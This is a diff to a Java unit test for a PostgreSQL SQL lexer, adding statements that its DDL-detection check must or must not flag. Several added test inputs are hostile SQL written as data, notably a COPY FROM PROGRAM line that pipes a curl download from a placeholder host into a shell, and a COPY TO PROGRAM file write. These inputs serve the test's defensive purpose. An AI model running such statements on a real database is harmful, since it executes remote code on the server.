@@ -41,6 +41,9 @@ class SqlLexerTest {
             "  -- only a comment",
             "SELECT a$b$ FROM t",
             "PREPARE p AS SELECT 1; EXECUTE p",
+            "PREPARE p (int) AS INSERT INTO t VALUES ($1)",
+            "COPY products (price, product_id) FROM STDIN WITH (FORMAT csv)",
+            "SELECT price, payment FROM p",
             "SELECT 'héllo wörld ünicode', 'дроп'",
             "UPDATE t SET a = E'\\''; --'",
             "UPDATE t SET a = $q$ ; DROP TABLE t; $q$ WHERE b = $1",
@@ -91,6 +94,9 @@ class SqlLexerTest {
             "SELECT c FROM x\"y\"INTO t",
             "WITH x AS (INSERT /* c */ INTO t VALUES (1)) SELECT 1",
             "explain analyze create table t2 as select 1",
+            "PREPARE p AS SELECT 1 AS a INTO t",
+            "COPY t FROM PROGRAM 'curl http://x | sh'",
+            "copy (select 1) to program 'cat > /tmp/x'",
     })
     void postgresMayContainDdl(String sql) {
         assertThat(PG.mayContainDdl(sql)).as(sql).isTrue();
